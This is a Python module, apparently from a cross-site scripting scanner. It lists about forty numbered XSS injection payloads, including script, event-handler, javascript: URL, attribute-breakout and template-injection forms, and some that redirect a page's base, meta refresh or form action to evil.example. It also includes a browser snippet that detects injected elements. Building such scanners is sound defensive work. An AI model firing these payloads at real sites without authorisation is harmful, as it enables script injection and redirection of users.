"""Forty ways to have a text run as a script, each with a number of its own; and what tells that one did, or nearly."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

#: what takes the place of N sets `planted` and opens a dialog; `data-p` marks what became an element
_KINDS = """
<script>RUN</script>|"><script>RUN</script>|'><script>RUN</script>|</title><script>RUN</script>
</textarea><script>RUN</script>|</script><script>RUN</script>|--><script>RUN</script>|<ScRiPt>RUN</sCrIpT>
<script/x>RUN</script>|</option></select><script>RUN</script>|<img src=x data-p onerror=RUN>
"><img src=x data-p onerror=RUN>|'><img src=x data-p onerror=RUN>|<img/src="x"/data-p/onerror=RUN>
<image src=x data-p onerror=RUN>|<svg data-p onload=RUN>|"><svg data-p onload=RUN>|<svg><script>RUN</script></svg>
<svg><animate data-p onbegin=RUN attributeName=x dur=1s>|<math><mi data-p><img src=x onerror=RUN>
<body data-p onload=RUN>|<iframe data-p srcdoc="<script>parent.RUN</script>">|<iframe data-p src=javascript:parent.RUN>
<object data-p data=javascript:RUN>|<embed data-p src=javascript:RUN>|<input data-p autofocus onfocus=RUN>
<details data-p open ontoggle=RUN>|<video data-p><source onerror=RUN></video>|<audio data-p src=x onerror=RUN>
<style data-p onload=RUN></style>|<link data-p rel=stylesheet href=x onerror=RUN>|<base data-p href=//evil.example/>
<meta data-p http-equiv=refresh content=0;url=//evil.example/>|<form data-p action=//evil.example/><button>b
" autofocus onfocus=RUN x="|' autofocus onfocus=RUN x='|javascript:RUN|{{constructor.constructor('RUN')()}}
<a data-p href=javascript:RUN>here</a>|<template data-p><script>RUN</script></template><img src=x data-p onerror=RUN>
"""
PAYLOADS = [
    kind.replace("RUN", f"alert({number})")
    for number, kind in enumerate(part for line in _KINDS.strip().splitlines() for part in line.split("|"))
]
#: looked for in a page that is open: elements and addresses that only a payload can have made
SIGNS = """() => [
  ...[...document.querySelectorAll('[data-p]')].map(e => e.tagName),
  ...[...document.querySelectorAll('[href],[src],[action],[data],[formaction]')]
    .filter(e => ['href', 'src', 'action', 'data', 'formaction'].some(
      a => /^\\s*javascript:|evil\\.example/i.test(e.getAttribute(a) || ''))).map(e => e.outerHTML.slice(0, 120)),
  ...[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^on/.test(a.name)).map(a => a.name),
]"""


class _Words(HTMLParser):
    """The names of the fields on a page into which somebody writes words."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = dict(attrs)
        if tag == "textarea" or (
            tag == "input" and said.get("type") in (None, "text", "search", "email", "tel", "url")
        ):
            self.names.add(said.get("name") or "")


def word_fields(page: str) -> set[str]:
    """The names of the fields of a page that take words."""
    reader = _Words()
    reader.feed(page)
    return {name for name in reader.names if name and not re.search(r"(_on|_at|date|version)$", name)}


def by_turns() -> Iterator[str]:
    """The payloads, round and round."""
    while True:
        yield from PAYLOADS
